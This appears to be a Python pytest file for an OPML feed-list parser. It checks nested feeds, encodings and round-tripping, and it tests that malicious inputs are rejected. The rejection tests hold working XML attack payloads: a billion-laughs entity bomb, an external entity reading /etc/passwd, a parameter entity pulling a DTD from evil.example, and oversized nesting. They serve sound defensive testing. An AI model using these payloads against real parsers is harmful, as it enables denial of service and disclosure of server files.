"""Lists of feeds: what others write is read, what harms is refused, what is written is read again."""

from __future__ import annotations

import pytest

from bridgebot.outline import MOST_FEEDS, Entry, NoOutline, is_outline, read, written

NESTED = """\ufeff<?xml version="1.0" encoding="UTF-8"?>
<opml version="1.0"><head><title>mine</title></head><body>
  <outline text="News">
    <outline type="rss" text="A &amp; B" title="A &amp; B 新闻" xmlUrl="https://a.example/feed?a=1&amp;b=2"/>
    <outline text="no feed"/>
    <OUTLINE TEXT="C" XMLURL=" https://c.example/rss "/>
  </outline>
  <outline text="twice" xmlUrl="https://c.example/rss"/>
  <outline text="a space" xmlUrl="https://d.example/a b"/>
</body></opml>"""


def test_feeds_are_found_in_folders_and_each_once():
    assert read(NESTED.lstrip("\ufeff")) == [
        Entry("A & B 新闻", "https://a.example/feed?a=1&b=2"),
        Entry("C", "https://c.example/rss"),
    ]
    assert is_outline(NESTED)


def test_bytes_in_another_encoding():
    text = '<?xml version="1.0" encoding="iso-8859-1"?><opml><body><outline text="é" xmlUrl="https://e.example/"/>'
    assert read(f"{text}</body></opml>".encode("iso-8859-1")) == [Entry("é", "https://e.example/")]
    assert read(f"{text}</body></opml>") == [Entry("é", "https://e.example/")]


def test_what_is_written_is_read_again():
    feeds = [
        Entry('"A" <b> & \x07 \U0001f600', "https://a.example/?x=1&y=2"),
        Entry("", "https://b.example/"),
    ]
    assert read(written("<ada>", feeds)) == [
        Entry('"A" <b> &  \U0001f600', "https://a.example/?x=1&y=2"),
        Entry("https://b.example/", "https://b.example/"),
    ]


BOMB = "<!DOCTYPE opml [" + "".join(
    f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "boom"}">' for n in range(30)
)
HARMFUL = {
    "a billion laughs": f'{BOMB}]><opml><body><outline xmlUrl="&e29;"/></body></opml>',
    "one long entity": '<!DOCTYPE o [<!ENTITY a "x">]><opml><body><outline xmlUrl="&a;&a;"/></body></opml>',
    "a file": '<!DOCTYPE o [<!ENTITY a SYSTEM "file:///etc/passwd">]><opml><outline text="&a;"/></opml>',
    "a parameter entity": '<!DOCTYPE o [<!ENTITY % a SYSTEM "https://evil.example/x.dtd">%a;]><opml></opml>',
    "very deep": "<opml>" + "<outline>" * 100_000,
    "many": "<opml>" + "".join(f'<outline xmlUrl="https://{n}.example"/>' for n in range(MOST_FEEDS + 1)),
    "long": "<opml>" + "<outline/>" * 200_000,
    "cut": "<opml><body><outline",
    "another thing": "<html><body>hello</body></html>",
    "an unknown encoding": '<?xml version="1.0" encoding="klingon"?><opml></opml>',
    "nothing": "",
    "half a character": "<opml>\ud83d",
}


@pytest.mark.parametrize("what", HARMFUL)
def test_what_is_no_list_is_refused(what):
    text = HARMFUL[what]
    with pytest.raises(NoOutline):
        read(text.encode("utf-8", "replace") if what == "an unknown encoding" else text)


@pytest.mark.parametrize(
    "text", ["hello", "<b>opml</b>", "an <opml> in words", "", "<?xml version='1.0'?><rss/>"]
)
def test_words_are_no_list(text):
    assert not is_outline(text)
